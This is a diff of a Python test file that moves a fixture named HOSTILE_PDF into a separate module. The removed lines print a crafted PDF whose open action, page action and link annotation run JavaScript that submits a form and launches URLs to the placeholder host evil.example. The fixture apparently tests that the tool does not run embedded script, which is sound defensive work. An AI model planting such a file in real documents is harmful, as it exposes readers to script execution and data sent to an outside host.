@@ -10,6 +10,7 @@ from typing import TYPE_CHECKING
 import pytest
 from browser import browser, let_in, needs_browser
 from conftest import Vault, indexed_vault, kb_in, make_vault
+from hostile_documents import HOSTILE_PDF
 from media_fixtures import IMAGES, MEDIA, MODELS, SPEECH, needs_decoder, needs_tesseract, needs_whisper
 from web_fixtures import Served, serving
 
@@ -22,21 +23,6 @@ if TYPE_CHECKING:
 __all__ = ["browser"]  # a fixture
 
 pymupdf = pytest.importorskip("pymupdf")
-
-# A page with a word, which would run a script when it is opened, when it is shown and when it is clicked.
-HOSTILE_PDF = b"""%PDF-1.7
-1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example'\\))>>
-/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.launchURL\\('https://evil.example'\\))>>]>>>>>>endobj
-2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
-3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>
-/AA<</O<</S/URI/URI(https://evil.example/opened)>>>>/Annots[6 0 R]>>endobj
-4 0 obj<</Length 47>>stream
-BT /F 18 Tf 20 150 Td (A hostile zebra) Tj ET
-endstream endobj
-5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
-6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/JavaScript/JS(app.alert\\(2\\))>>>>endobj
-trailer<</Root 1 0 R>>
-"""
 
 
 @pytest.fixture(scope="module")
